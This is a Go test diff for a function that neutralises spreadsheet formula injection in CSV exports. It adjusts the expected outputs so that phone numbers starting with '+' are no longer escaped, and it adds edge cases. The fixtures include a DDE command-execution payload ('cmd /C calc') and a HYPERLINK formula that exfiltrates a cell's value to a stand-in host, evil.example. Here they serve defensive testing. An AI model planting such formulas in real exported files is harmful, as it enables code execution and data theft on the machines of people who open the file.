@@ -15,7 +15,13 @@ import (
 func TestNeutralise(t *testing.T) {
 	for in, want := range map[string]string{
 		"=HYPERLINK(\"http://x\",\"y\")": "'=HYPERLINK(\"http://x\",\"y\")",
-		"+84912345678":                   "'+84912345678",
+		"+84912345678":                   "+84912345678", // a phone number: read as a number, nothing runs
+		"-12.5":                          "-12.5",
+		"+84 912 345 678":                "+84 912 345 678",
+		"+cmd|' /C calc'!A0":             "'+cmd|' /C calc'!A0",
+		"-1+1":                           "'-1+1",
+		"+":                              "'+",
+		"-":                              "'-",
 		"-2+3":                           "'-2+3",
 		"@SUM(A1)":                       "'@SUM(A1)",
 		"\t=1":                           "'\t=1",
@@ -78,7 +84,7 @@ func column(t *testing.T, file, name string) string {
 // is the same either way.
 func TestExportNeutralisesFormulas(t *testing.T) {
 	want := map[string]string{
-		"address": `'=HYPERLINK("http://evil.example/?x="&A1,"Xem")`, "head_name": "'@SUM(1+1)", "head_phone": "'+84912345678", "members_total": "-3",
+		"address": `'=HYPERLINK("http://evil.example/?x="&A1,"Xem")`, "head_name": "'@SUM(1+1)", "head_phone": "+84912345678", "members_total": "-3",
 	}
 	raw := map[string]string{
 		"address": `=HYPERLINK("http://evil.example/?x="&A1,"Xem")`, "head_name": "@SUM(1+1)", "head_phone": "+84912345678", "members_total": "-3",
